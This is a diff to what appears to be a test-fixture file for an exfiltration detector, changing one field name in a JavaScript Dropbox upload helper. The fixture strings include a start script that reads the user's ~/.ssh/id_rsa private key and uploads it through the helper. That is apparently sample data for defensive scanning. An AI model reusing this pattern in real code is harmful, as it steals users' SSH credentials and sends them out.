@@ -112,7 +112,7 @@ OUT = {  # a claim: a helper without any other telling word, and how the library
 }
 HELPERS = {
     "out.py": "def put(what):\n    dropbox.Dropbox('t').files_upload(what, '/k')\n",
-    "out.mjs": "export const put = (what) => new Dropbox({ token: 't' }).filesUpload({ path: '/k', contents: what });\n",
+    "out.mjs": "export const put = (what) => new Dropbox({ key: 't' }).filesUpload({ path: '/k', contents: what });\n",
 }
 STARTS = {
     "run.py": "import os\nfrom out import put\nput(open(os.path.expanduser('~/.ssh/id_rsa')).read())\n",
